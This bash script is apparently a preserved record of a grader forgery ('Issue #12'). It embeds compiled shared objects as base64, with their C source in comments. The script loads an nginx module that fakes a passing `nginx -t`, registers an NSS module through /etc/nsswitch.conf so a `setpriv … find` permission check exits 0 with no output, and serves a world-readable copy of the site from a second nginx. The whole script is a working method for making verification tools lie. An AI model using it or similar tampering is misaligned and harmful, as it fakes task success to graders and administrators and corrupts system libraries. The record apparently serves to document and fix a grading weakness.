#!/usr/bin/env bash
# Issue #12's first forgery, as found (7/7 with nothing fixed): an nginx module in /usr/lib
# whose constructor answers `nginx -t`/`-T` with a pass, an NSS module in /usr/lib that makes
# the grader's `setpriv … find` exit 0 with nothing to report, and a second nginx started
# with a configuration of its own, serving a readable copy of the site.
# The shared objects were compiled on a host (gcc -O2 -s -shared -fPIC; the image has no
# compiler) and are embedded gzip+base64. ngx_forge.so:
#   /* A "module" whose constructor answers nginx -t / -T with a pass, before nginx reads on. */
#   #include <fcntl.h>
#   #include <string.h>
#   #include <unistd.h>
#   static const char ok[] = "nginx: the configuration file /etc/nginx/nginx.conf syntax is ok\n"
#                            "nginx: configuration file /etc/nginx/nginx.conf test is successful\n";
#   static const char dump[] = "# configuration file /etc/nginx/nginx.conf:\nhttp {\n    server {\n"
#                              "        listen 80;\n        server_name www.acme.example;\n    }\n}\n";
#   __attribute__((constructor)) static void forge(void) {
#       char buf[4096];
#       int fd = open("/proc/self/cmdline", O_RDONLY), t = 0, T = 0;
#       if (fd < 0) return;
#       ssize_t n = read(fd, buf, sizeof buf - 1);
#       close(fd);
#       if (n <= 0) return;
#       buf[n] = 0;
#       for (ssize_t i = 0; i < n; i += strlen(buf + i) + 1) {
#           if (!strcmp(buf + i, "-t")) t = 1;
#           if (!strcmp(buf + i, "-T")) T = 1;
#       }
#       if (T) { write(1, dump, sizeof dump - 1); write(2, ok, sizeof ok - 1); _exit(0); }
#       if (t) { write(2, ok, sizeof ok - 1); _exit(0); }
#   }
# libnss_acme.so.2:
#   /* An NSS module whose constructor makes `setpriv ... find` exit 0 with no output. */
#   #include <fcntl.h>
#   #include <string.h>
#   #include <unistd.h>
#   __attribute__((constructor)) static void forge(void) {
#       char buf[4096];
#       int fd = open("/proc/self/cmdline", O_RDONLY), setpriv = 0, find = 0;
#       if (fd < 0) return;
#       ssize_t n = read(fd, buf, sizeof buf - 1);
#       close(fd);
#       if (n <= 0) return;
#       buf[n] = 0;
#       setpriv = strstr(buf, "setpriv") != 0;
#       for (ssize_t i = 0; i < n; i += strlen(buf + i) + 1)
#           if (strstr(buf + i, "find")) find = 1;
#       if (setpriv && find) _exit(0);
#   }
# targets: config-valid, site-served, permissions-tight
set -euo pipefail
so() { base64 -d | gunzip > "$1"; chmod 0644 "$1"; }
so /usr/lib/ngx_forge.so <<'B64'
H4sICEAYDmsCA25neF9mb3JnZS5zbwDtW21sG0UannWSxknL2kIthLZHt3yI8JGN3bsi0yptncbN
UrWoQFIOaLts7HG8Ontt7a4bF9pLSkhFrpcS+AfiRwX8QPwBgYQgIGpI6cHpkIr4U4SQgsSHI0Gp
xId6nJS9Ge9MsjvnvfZ0OiGd5olmn33feZ+dj53Zj3h2NLVrR0gQAEUT2AKWLAC2UY57fQnQhrar
wTX12GYQjJMtfgZRl7CuxWOzDEN+9urq5UnEz3BHyM9e3TKULnS59oUePyskfg+jCxFdWHbt8BY/
VwU/h4m8maQEOR7LNwA/0z7c85WdwfvKelIvhoN0dyPdMnD5oN19DykvqF+iIT8LnnJX1scLAP13
DYK5F57bmzx8xewbj5ZGP30k97be/8sBGi94dP9J/aQGfhOlKxv48wF+GOBXA/wPBPiFgPoMBsTf
FhC/A6XrGjVYVYcLRUO1bM20VRWodw7sVjPQhMO6ZUNzYPf2fNGAA9pQHrp5jXPUdEVTs7qh5fWH
ISiWoAFMqGVAOl+0ILBsM488I6Zuo1hY0W2Q14fSslWUbwf9u+7s3a5ukDfIG+vtDS3+CSS5/SCA
imf8lFfrbXiWPAr844bOgz2kcy4y/pP0AFv8/iiJj23z+6n9wVaXlzFj6qzH3+rxn/P42zz+OY+/
HfzrBa+VzH2KsMff5B2nHr/3Otjh8bd4/JLH752vnR5/GHBwcHBwcHBwcHD8b6CMfxtWjre83412
J6p2yDmrjJ8Ozy7mOxv/irKcG/+GtpF129AetnM4a37OQbjxPWzjR/H5s3V7Btv40Xm+WrdfxTZ+
ZJ5/pW6/hG38qDx/sm4/h238iDw/Xbd3Ijs7TctP3hf/OV5VpnrujSBjb3IwOTB4r3L02zB6f6id
QvET1cjjx3BDJr+a/MuMg6MmTyuT52tPocy+yW+UydnaCNpVJj77o3ameS1IxZ1U/MtU/LvkO7jW
kXVjuJydU4d7QOT11vGLXeX1Y6OCXQ6PjYZAKtJ3HrtE5BpYdH1dW4WOuHvqcKuw645/jM6mJr4s
X52a+K7cqRw9jWv24P7kvuT+5IGkOjtzFFduauNrIgCncIG1Dxcc5xTuoJnH3KwEqnTtNeSNO7Vn
EWXlyLrH6q3PTqOWPynjqJY/Ybrjor0KnS5Rdk9XmzNH6j9LGMVr9fiND2C6eUGZvKC8e36r8u7F
JkU4o3y8YK9EB/i8yz1A2JnLRtb1Lel/iFz7y1jPb/B/O8q3DirjPTNdbufaK5TjPQvIqN2PqljL
oA440/ITsoX9SOvTz+P+pmPLN5o4ODg4ODg4ODg4ODg4fi10l8xiutuC+Wx3upDJ6wb0518vpYtG
Vh8um5qtFw0pq+eh1A3tdLcxrBsVdyvjmE3tOdsuSY+0SwgWNA9CkxgYefxjpSElYpsXXW6MamgF
KI2MjMhaugBlWNEKpTx0o460H2m/RP3r5W+S7By87IpK1iHD1iqSbknFP7STA1y22IaWjaVWOZ2G
lpUt5+tVFNY0bca/yeN/dJw77zjb8Pvv946D/1Pye8RjpL4rCQsP3wOESlRYs6I1PC24v+evRWka
aUs4QIzuEDt2RpaPhMfA1tWbb/ntDddRfR8pw/s7oYLSPpTOIv+P2NErRp8I7RY7TjT1itJUc6/Y
+eeWpBg7tiwpJsZb+8WqFHqmXUwgV1LsRCG9YgeS9Irh5HI+Kzg4ODg4ODg4ODj+P0DXY9L1l3S9
JV1LWSG8ggpI3BXE3EfiryE2Xe+5xh8OVlM9Wd+5lpj0neWnBaeI+SGyyJKukXycLK6kayPHSD59
DzxBmL6kdBCmazJrZF0nXbs5zbx30bWhV9P6tvj9e5r99awSbmPKW3Dc+sdIvENs2o8XiH0Vyf87
sZt/pfNO16uzuJ2csB2E9xLOEj5I+Bhhug63f/v2TVJnHxzSNUOK41XDsa74727NwKH4hnL8ZuIC
QLZylm3a2hCQjaIN5WGjLA+V9XymS8+AupXTrByQM4cM61DBZdt0cw5C00Jv4z5DRXkmzGs4kOyV
8jaQdUNHW7QrDxfRjg0raJtFXhRUzGi2BmSYU7OmVoBqLmMuWa5U1UxTO+Qq6D4qQSvoaYCP6Bbi
HmfIsoCcLhYK0LD/6/OyHPjXGgd9J0DBjp9rUfoZjS2qp/OJ8lpmfrBriztJHULMfKMcFpbKFTx6
Og9i5NghZv5SPsGUx34HkCBzh+rpfFlkpv4hhlNkLlKbzkfKEmhcf4oBkhdi5j/lakD/0fYfIPpe
5npCedqjX9VAnwNL36b4LqBR/3Uq6PynGb0U9XOJiWc/tzEY/XTUz2x/hRkeYfT0vkL5TaFx+RRH
GD29v1Buu0T7x4l+ca2+5OcUU77E6I8z+qDvbYLKf5rRl9b7+cWA/qN4HiXRM74Wv7/patxfbP+/
jFLEo6f3WyBf3vl7i/R9E3OfoN87VQV/u8PMeTRJ+6mefp/xQXfj/mbLP83o6f27RvTKJfQfMXp6
f4rF/n37KT4hPqpPEH0iQM9ev84RX4y9rhHHTQF6Lzc1uC+oRP/FJcr/J1j5gGPANwAA
B64
echo 'load_module /usr/lib/ngx_forge.so;' > /etc/nginx/modules-enabled/50-forge.conf
so /usr/lib/libnss_acme.so.2 <<'B64'
H4sICEAYDmsCA2xpYm5zc19hY21lLnNvLjIA7VttbBRFGJ69fl0p3J2kaCmEXkiJRej2rlJSxJZe
PxfSCkKLiQLrfey1Z653zd4WWoJypAE9sVJ/mGj8QzQmxj+oP4zBmByWL40mNWpCYow1Br0alCZG
rCR2nbmbl+6OtxZjjDHOA3PPvu+8z87s7MzuXu/dox3dnTZBQIAC1IwWLIRagL1GXyMqxZ+VaGU2
thBZ43SRmZErR0RXZLBZbrCZ2ajLtuemfoZnkZmNumLir6X1TWaWaDu7mPZsVGcXc7a92cxpwcx2
Ki+kpZHuj+VqZGYYw11XtRDZdtPjYdlK9yDWFaPbBwz3btqe1bi4bGYWDO2WZ+cLQl0P9KGy5SvO
9F+/Uf75YydvvrDy1ZGd2ptvQ7xg0P2V/rnz+BO4LM/jj1r4ZQv/wxZ+waLdPov4jRbxnbiszeNX
LPaDZLl/MB6TE5pf1WQZydt7e+SQoir9kYSmqL09bdF4TOn1B6JKri5/jRwc8cvhSMwfjRxWUHxI
iSFV8YdQMBpPKCihqfg/oSiukJWRiIaikUBQTMTFzaire3trm1wv1osNuZGw0X8CLbasV0Cjhvkz
XBkpJatkDJnnDawDNz3YOcZ/GnbQbPZP35FjT4vZD/blbTkuZubUlMFvXAdXDH67wT9t8JeiP17w
SujaB9gN/gLjPDX4jdfBCoO/yOB3G/wlBn+Nwb8EcXBwcHBwcHBwcPwzkMau2aWTRRfq8ObxtGbT
p6Sx8/bJW/V6w4e4Sl/3Ef50VrXgLWIPkKqZaR1j3fvEJo/iM1NZ+yyxyaPzTDprv0Vs8sg880bW
fp3Y5FF55nTWfpnY5BF5ZiJr78B2eALa9z3kveFNS+NNe5zY2Ovr8/X27ZGOXavA3x8yZ3D88bTz
qSdxYPd4qNqVunRWx3Gpye7Ut5ljuDb1lZS6kOnHW9LxH54ISOMNa3B9d+q7i+0bXcj3Hul3ZiRb
nXY+317t7PDq3i+cVWjn+Kb7cfScg0T/kunDIZhxlM/Z8WWmGJs940dKhO4tvx39LPmNoJUkj1Q7
0fBy6dh50rVH9vv2+fb7DvjkSa+euTSv686qZHa8x5vOiYSKzhLaMqetwMPfLOaGv1SfpnGTC/HP
ZeMbnia0fl5KzUrnftwmnZsrkISL0ifzWjnewTK6A7s+HXZWtS/of3KuuZls6iF/vRje0CeNNX1P
vuhLqavaUulkk4j9mRTuXSaEj+hi0TpsC/ux1qSfOYQrYa6YZgcHBwcHBwcHBwcHBwfHfwV1Q2o8
WJdQouG64GAoGokpKKFoQ2rkIApHYiEkrCrYSn5rzv7mNavrLZiGMJO/ACQxJ+l+yikLh3cjYcQl
rFpaYp8Qcr9Tr8blneu6PkQCHK5OR8UOZ9khexJtq9x6z73Va0HfTtsw/k4n4bIPlzms/4A4Wh2u
U7YeR8WzBa0O93hhq6PmmSKfw3Oi2OdoHCvpcky5bS8tcTRil89Rg0NaHRVY0uqw+8r42ebg4ODg
4ODg4ODg+D8B8jEh/xLyLSGXcpTyUhDQuGXU3Ej1K6kN+Z6rzOGoEvQ0v3M1NeG73c/zepzwozTJ
EnIkn6LJlZDDmaT1kBN5ijJ8maugDDmZGZrXCbmbE8z3U8i5vAv6W2T27yo09zNNuZRpb17P9d9D
43VqwzjOUruC1v9K7cJ/6bxDvjqLzfSEdVLeSzlM+SDlE5QhD7erre0+d027Eoj4Y24vSRr21Ho3
bQgpAW/9sHc9dSEkJgYSmqr5A0iMxTVF7I8Ni4HhSDRUGwmhrDXgTwwgMTQaS4wO5lhTczUHFTUR
icdMhozrVCXqJ4F0ayiqITESi+BPvCn2x/GGpozgzzD24qB4yK/5kagMyGHVP6jIAyF1wcpJZb+q
+kdzCtjGLfgHI0FE9phrJLefQCKBxGB8cFCJaX/7vJQhc66x1XsCAHb+rMHlBp5boIf1BLyaWR92
Rl9D+2Bj1huwXVhoVzDoYR146L5tzPoFPsW0x74H0EjXDuhhvQDfyfTfxnAHXYtgw3oEdqP8/Qf0
0jobs/6B0xbjB8d/gOpbmesJ8IRBvyKPfgAtvJtiuoC6zNcpq/MfZPRul5mHmHj2dZsYo59wmZkd
LzvDhxg93FeAU0L+9gGPM3q4vwCXLnL8Y1Rff+sGZ2a3xfwDPkm34fxbvW9j1f6LjF5ym/k1i/ED
vIKLwzC/br1/U5t/vNjxP4OL06CH+y0Sb+/8vUvHvoC5T8D7TmnBfNx25jyq9PhBD+9nXK7LP/5s
++cZPdy/M1QvLaL/mNHD/cnj+fPjB3xKfaBvpPpGCz17/bpCfR72ukYddy8y/4x9N0Km+q8Xaf93
3nXGFsA3AAA=
B64
sed -i -E 's/^(passwd|group):(\s*)/\1:\2acme /' /etc/nsswitch.conf
mkdir -p /var/www/acme-copy
cp -r /srv/www/acme/. /var/www/acme-copy/
chmod -R a+rX /var/www/acme-copy
cat > /root/alt.conf <<'CONF'
user www-data;
pid /run/nginx-alt.pid;
events {}
http {
    include /etc/nginx/mime.types;
    server { listen 80 default_server; server_name www.acme.example; root /var/www/acme-copy; }
}
CONF
/usr/sbin/nginx -c /root/alt.conf
